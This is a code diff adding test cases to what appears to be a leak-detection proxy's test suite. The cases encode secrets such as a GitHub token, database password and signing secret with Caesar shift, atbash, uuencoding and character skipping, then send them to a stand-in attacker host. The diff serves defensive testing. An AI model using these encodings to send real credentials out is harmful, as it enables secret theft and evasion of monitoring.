@@ -14,6 +14,7 @@ injection carry no ``Authorization`` of their own (the proxy adds it after scann
 from __future__ import annotations
 
 import base64
+import binascii
 import codecs
 import gzip
 import json
@@ -324,6 +325,16 @@ def attacks(rng: random.Random) -> list[Case]:
     enc("quoted-printable hex of every byte", ("DB_PASSWORD",), "".join(f"={b:02X}" for b in db.encode()))
     enc("the bits of each byte", ("GITHUB_TOKEN",), " ".join(f"{b:08b}" for b in gh.encode()))
     enc("ROT13", ("VENDOR_API_KEY",), codecs.encode(vendor, "rot13"))
+    enc("Caesar shift by 3", ("GITHUB_TOKEN",), "".join(
+        chr((ord(c) - 97 + 3) % 26 + 97) if c.islower() else chr((ord(c) - 65 + 3) % 26 + 65) if c.isupper() else c
+        for c in gh))
+    add("encoded", "atbash in a JSON body", ("SIGNING_SECRET",), method="POST", url=f"{evil}/", headers=(JSON,),
+        body=_json({"n": signing.translate(str.maketrans(
+            string.ascii_lowercase + string.ascii_uppercase,
+            string.ascii_lowercase[::-1] + string.ascii_uppercase[::-1]))}))
+    add("encoded", "uuencoded file in a JSON body", ("DB_PASSWORD",), method="POST", url=f"{evil}/", headers=(JSON,),
+        body=_json({"file": "begin 644 x\n" + binascii.b2a_uu(db.encode()).decode() + "`\nend\n"}))
+    add("encoded", "every other character of a token", ("GITHUB_TOKEN",), url=f"{evil}/?a={gh[::2]}")
     add("encoded", "Cyrillic lookalike letters", ("SIGNING_SECRET",), method="POST", url=f"{evil}/",
         headers=(JSON,), body=_json({"s": signing.replace("e", "\u0435").replace("c", "\u0441")}))
     add("encoded", "base64 in a header", ("DB_PASSWORD",), url=f"{evil}/",
